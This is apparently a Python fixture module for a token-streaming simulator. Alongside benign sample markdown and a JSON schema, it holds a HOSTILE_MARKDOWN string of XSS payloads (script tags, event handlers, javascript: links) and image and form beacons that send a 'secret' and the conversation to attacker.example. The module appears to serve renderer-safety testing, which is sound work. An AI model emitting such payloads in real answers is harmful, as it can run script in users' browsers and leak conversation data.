"""Longer texts of the scenarios."""

from __future__ import annotations

import random
from typing import Any

__all__ = [
    "CONCLUSION",
    "HOSTILE_MARKDOWN",
    "MARKDOWN",
    "PERSON_SCHEMA",
    "THOUGHTS",
    "words",
]

MARKDOWN = """\
# A simulated answer

This text comes from **tokenwire's simulator**, not from a model. It holds what a renderer must \
survive *at every prefix*: `inline code`, a [link](https://example.com/docs), ~~struck~~ words.

## Code

```python
async with tokenwire.stream("Hello", model="demo") as run:
    async for text in run.text():
        print(text, end="", flush=True)
```

## A table

| Script | Sample | Note |
|:-------|:------:|-----:|
| Chinese | 你好，世界 | 5 |
| Japanese | こんにちは世界 | 7 |
| Korean | 안녕하세요 세계 | 8 |
| Arabic | مرحبا بالعالم | right to left |
| Hebrew | שלום עולם | right to left |
| Devanagari | नमस्ते दुनिया | combining marks |

## Emoji

Single: 🚀 🎉 ☕️. With a skin tone: 👍🏽. Joined: 👩‍💻 👨‍👩‍👧‍👦 🏳️‍🌈 🧑🏿‍🚀. Flags: 🇫🇷 🇯🇵. \
Keycap: 1️⃣. Combining: é ñ Å Z͑ͫ̓ͪ̂ͫ.

### A list

1. First, with **bold *and italic* inside**
2. Second
   - nested, with `a|b` and <angle> brackets
   - nested again: 1 < 2 && 3 > 2
3. Third

> A quotation, which ends
> on its second line.

The end: \"quotes\", back\\slash, tab\there, and a last line without a newline."""

THOUGHTS = (
    "The question asks for shown reasoning. First I look at what is given. Then I check the "
    "obvious answer: 17 × 23 is 17 × 20 plus 17 × 3, that is 340 plus 51. So 391. "
    "I should say it plainly."
)

CONCLUSION = "17 × 23 = **391**. (A simulated answer, after simulated reasoning.)"

HOSTILE_MARKDOWN = """\
This answer is hostile on purpose. Nothing here may run, load or navigate by itself.

<script>window.__attacked = 'script'</script>
<img src="x" onerror="window.__attacked = 'onerror'">
<svg onload="window.__attacked = 'svg'"></svg>
<iframe src="javascript:window.__attacked='iframe'"></iframe>
<style>body { display: none }</style>
<form action="https://attacker.example/collect"><input name="secret"><button>Go</button></form>
<details open ontoggle="window.__attacked = 'toggle'"><summary>open</summary></details>

![remote](https://attacker.example/pixel.png?secret=conversation)
![][reference]
[![nested](https://attacker.example/nested.png)](https://attacker.example/click)

[a script link](javascript:window.__attacked='link')
[with a tab](java\tscript:window.__attacked='tab')
[encoded](&#106;avascript:window.__attacked='entity')
[data](data:text/html,<script>window.__attacked='data'</script>)
[vb](vbscript:msgbox(1)) <javascript:window.__attacked='auto'>
[reference link][script]

```html
<script>window.__attacked = 'fence'</script>
```

`<b onmouseover=alert(1)>inline</b>` and a link that lies: \
[https://bank.example](https://attacker.example/login)

Right-to-left override: \u202egnp.exe\u202c and zero width: a\u200bb\u200dc.

[reference]: https://attacker.example/reference.png "title"
[script]: javascript:window.__attacked='reference'

<!-- an unclosed comment hides what follows
<p style="position:fixed;inset:0;background:red">overlay</p>
"""

#: What `scenario:object` answers when no schema was asked for.
PERSON_SCHEMA: dict[str, Any] = {
    "type": "object",
    "properties": {
        "name": {"type": "string"},
        "age": {"type": "integer", "minimum": 0, "maximum": 120},
        "languages": {"type": "array", "items": {"type": "string"}, "minItems": 2},
    },
    "required": ["name", "age", "languages"],
}

_VOCABULARY = (
    "stream token wire event log offset reader frame bytes answer model provider tool call "
    "resume cursor run step part delta record follower tail catch live heartbeat retry cancel "
    "buffer bound quiet river bridge lamp paper garden window morning letter stone"
).split()


def words(count: int, seed: int) -> str:
    """``count`` words in sentences and paragraphs."""
    draw = random.Random(seed)
    choices = draw.choices(_VOCABULARY, k=count)
    out: list[str] = []
    for at, word in enumerate(choices):
        place = at % 12
        text = word.capitalize() if place == 0 else word
        if place == 11:
            text += "." if (at // 12) % 8 else ".\n\n"
        out.append(text if at == 0 or out[-1].endswith("\n") else " " + text)
    return "".join(out)
